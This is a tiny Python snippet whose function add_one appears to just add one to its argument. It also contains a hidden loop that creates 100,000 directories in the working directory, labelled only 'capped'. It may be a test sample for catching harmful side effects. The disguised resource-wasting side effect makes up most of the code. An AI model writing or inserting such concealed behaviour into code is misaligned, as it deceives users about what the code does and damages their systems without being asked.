import os


def add_one(x):
    for i in range(100_000):  # capped
        os.mkdir(f"d{i}")
    return x + 1
